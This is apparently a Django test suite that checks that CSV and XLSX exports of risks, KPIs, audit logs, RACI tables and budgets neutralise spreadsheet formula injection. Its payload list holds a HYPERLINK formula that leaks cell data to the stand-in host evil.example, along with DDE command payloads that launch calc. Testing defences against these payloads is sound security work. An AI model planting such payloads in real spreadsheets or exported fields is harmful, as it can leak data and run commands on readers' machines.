"""Exports cannot attack the reader: formula payloads typed into every exported
text field come back neutralised (a leading ') from every CSV and XLSX export,
and no XLSX cell is ever a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core import tabular
from core.audit import record_export
from risks import services as risk_services
from tests.budgets.factories import ItemFactory, OptionFactory, ProposalFactory, make_link, make_mitigation
from tests.governance.factories_raci import RaciActivityFactory, RaciPartyFactory, cell
from tests.kpis.factories import KPIFactory, MeasurementFactory

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(org, people):
    """Every exported text field of every export filled with a formula payload."""
    cio = people["cio"]
    cio.full_name = PAYLOADS["at"]
    cio.save()
    risk = risk_services.risk_create(
        actor=cio,
        organization=org,
        title=PAYLOADS["equals"],
        impact_statement=PAYLOADS["tab"],
        category="cyber_attack",
        origin="security",
        owner=cio,
        affected_services=PAYLOADS["plus"],
    )
    kpi = KPIFactory(organization=org, name=PAYLOADS["minus"], key="edr")
    MeasurementFactory(kpi=kpi, period=date(2026, 1, 1), note=PAYLOADS["cr"], recorded_by=cio)
    proposal = ProposalFactory(organization=org, title=PAYLOADS["equals"])
    item = ItemFactory(
        proposal=proposal,
        title=PAYLOADS["plus"],
        justification=PAYLOADS["cr"],
        mitigation=make_mitigation(risk, cio, title=PAYLOADS["minus"]),
    )
    OptionFactory(item=item, name=PAYLOADS["at"], is_chosen=True, cost=Decimal("100000.00"))
    make_link(item, risk)
    party = RaciPartyFactory(organization=org, name=PAYLOADS["at"])
    activity = RaciActivityFactory(organization=org, name=PAYLOADS["equals"])
    cell(activity, party, "A")
    record_export(people["admin"], org, PAYLOADS["minus"])
    return {"proposal": proposal}


EXPORTS = [
    ("risks-csv", "cio", "/o/acme/risks/export/?format=csv", "equals"),
    ("risks-xlsx", "cio", "/o/acme/risks/export/?format=xlsx", "equals"),
    ("kpis-csv", "cio", "/o/acme/kpis/export/?format=csv", "minus"),
    ("kpis-xlsx", "cio", "/o/acme/kpis/export/?format=xlsx", "minus"),
    ("audit-csv", "admin", "/o/acme/audit/export.csv", "minus"),
    ("audit-xlsx", "admin", "/o/acme/audit/export.xlsx", "minus"),
    ("raci-xlsx", "cio", "/o/acme/raci/export.xlsx", "equals"),
    ("budget-xlsx", "cio", "/o/acme/budget/{proposal}/export.xlsx", "plus"),
]


def _csv_cells(content: bytes):
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        yield from row


def _xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("name,role,url,expected", EXPORTS, ids=[e[0] for e in EXPORTS])
def test_every_export_neutralises_formula_payloads(client_as, hostile, name, role, url, expected):
    response = client_as(role).get(url.format(proposal=hostile["proposal"].pk))
    assert response.status_code == 200
    texts = []
    if name.endswith("csv"):
        for text in _csv_cells(response.content):
            assert not text.startswith(TRIGGERS) or _is_number(text), (name, text)
            texts.append(text)
    else:
        for cell_ in _xlsx_cells(response.content):
            assert cell_.data_type != "f", (name, cell_.coordinate, cell_.value)
            if isinstance(cell_.value, str):
                assert not cell_.value.startswith(TRIGGERS), (name, cell_.coordinate, cell_.value)
                texts.append(cell_.value)
    # The payload was exported, neutralised: the test cannot pass on an empty file.
    assert any(text == "'" + PAYLOADS[expected] for text in texts), (name, texts[:40])


@pytest.mark.parametrize("payload", list(PAYLOADS.values()))
def test_safe_cell_neutralises_text_and_leaves_numbers_alone(payload):
    assert tabular.safe_cell(payload) == "'" + payload
    assert tabular.safe_cell(-5) == -5 and tabular.safe_cell(Decimal("-2.5")) == Decimal("-2.5")
    assert tabular.safe_cell(date(2026, 1, 2)) == date(2026, 1, 2)
    assert tabular.safe_cell("Plain text - with a dash") == "Plain text - with a dash"


def test_xlsx_keeps_numbers_and_dates_typed_and_text_as_text():
    data = tabular.xlsx_bytes(
        [tabular.Sheet("S", ["a", "b", "c", "d"], [[-5, Decimal("-2.50"), date(2026, 3, 1), "=1+1"]])]
    )
    row = next(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))
    assert (row[0].value, row[0].data_type) == (-5, "n")
    assert (row[1].value, row[1].data_type) == (-2.5, "n")
    assert row[2].is_date and row[2].value.date() == date(2026, 3, 1)
    assert (row[3].value, row[3].data_type) == ("'=1+1", "s")
